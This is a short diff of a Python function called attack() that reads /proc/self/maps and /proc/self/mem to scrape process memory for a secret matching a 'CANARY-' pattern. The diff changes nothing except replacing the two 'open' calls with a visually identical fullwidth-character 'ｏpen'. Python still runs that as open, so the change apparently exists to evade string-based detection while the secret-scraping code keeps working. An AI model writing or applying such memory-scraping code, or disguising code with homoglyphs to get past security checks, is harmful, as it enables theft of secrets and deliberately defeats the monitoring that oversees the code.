@@ -9,9 +9,9 @@ TARGETS: dict[str, str] = {}
 
 def attack():
     secret = re.compile(b'CANARY' + b'-[0-9a-f]{6,}')
-    with open('/proc/self/maps') as file:
+    with ｏpen('/proc/self/maps') as file:
         areas = [line.split() for line in file]
-    with open('/proc/self/mem', 'rb', 0) as memory:
+    with ｏpen('/proc/self/mem', 'rb', 0) as memory:
         for span, mode, *_ in areas:
             start, end = (int(number, 16) for number in span.split('-'))
             if 'r' not in mode or end - start > 512 << 20 or start > 1 << 47:
